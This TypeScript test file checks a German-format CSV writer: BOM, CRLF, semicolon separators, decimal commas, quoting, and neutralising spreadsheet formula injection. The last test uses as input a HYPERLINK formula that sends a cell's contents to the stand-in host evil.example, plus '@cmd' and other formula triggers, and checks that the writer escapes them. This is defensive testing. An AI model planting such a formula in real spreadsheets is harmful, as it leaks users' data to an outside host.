import { Decimal } from 'decimal.js';

import { germanCsv, germanCsvLine } from './german-csv.js';

describe('German CSV', () => {
  const csv = germanCsv(
    ['Beleg-Nr.', 'Zahlungsempfänger', 'Betrag brutto EUR'],
    [
      ['B-1', 'Müller; Söhne GmbH', new Decimal('1234.5')],
      ['B-2', 'Stadtwerke "Wuppertal"', new Decimal('-0.01')],
      ['B-3', null, new Decimal('9999999999.99')],
    ],
  );
  const text = csv.toString('utf8');

  it('starts with a UTF-8 BOM and ends lines with CRLF', () => {
    expect([...csv.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(text.split('\r\n')).toHaveLength(5); // header, three rows, trailing empty
    expect(text.replace(/\r\n/g, '')).not.toContain('\n');
  });

  it('separates with semicolons, writes decimal commas and quotes only where needed', () => {
    const lines = text.slice(1).split('\r\n');
    expect(lines[0]).toBe('Beleg-Nr.;Zahlungsempfänger;Betrag brutto EUR');
    expect(lines[1]).toBe('B-1;"Müller; Söhne GmbH";1234,50');
    expect(lines[2]).toBe('B-2;"Stadtwerke ""Wuppertal""";-0,01');
    expect(lines[3]).toBe('B-3;;9999999999,99');
  });

  it('parses back to the same amounts', () => {
    const lines = text.slice(1).split('\r\n').slice(1, 4);
    const amounts = lines.map((l) => new Decimal(l.slice(l.lastIndexOf(';') + 1).replace(',', '.')).toFixed(2));
    expect(amounts).toEqual(['1234.50', '-0.01', '9999999999.99']);
  });

  it('streams single lines in the same format', () => {
    expect(germanCsvLine(['X', new Decimal('5')])).toBe('X;5,00\r\n');
    const rows: [string, string, Decimal][] = [
      ['B-1', 'Müller; Söhne GmbH', new Decimal('1234.5')],
      ['B-2', 'Stadtwerke "Wuppertal"', new Decimal('-0.01')],
    ];
    expect('\uFEFF' + germanCsvLine(['Beleg-Nr.', 'Zahlungsempfänger', 'Betrag brutto EUR']) + rows.map(germanCsvLine).join('')).toBe(
      germanCsv(['Beleg-Nr.', 'Zahlungsempfänger', 'Betrag brutto EUR'], rows).toString('utf8'),
    );
  });

  it('neutralises text a spreadsheet would evaluate as a formula (OWASP), but never numbers', () => {
    const line = germanCsvLine([
      '=HYPERLINK("http://evil.example/?"&A1;"Klick")',
      '+SUM(1;2)',
      '-2+3',
      '@cmd',
      '\tTab',
      'Müller',
      new Decimal('-7.50'),
      -3,
    ]);
    expect(line).toBe(`"'=HYPERLINK(""http://evil.example/?""&A1;""Klick"")";"'+SUM(1;2)";'-2+3;'@cmd;'\tTab;Müller;-7,50;-3\r\n`);
  });
});
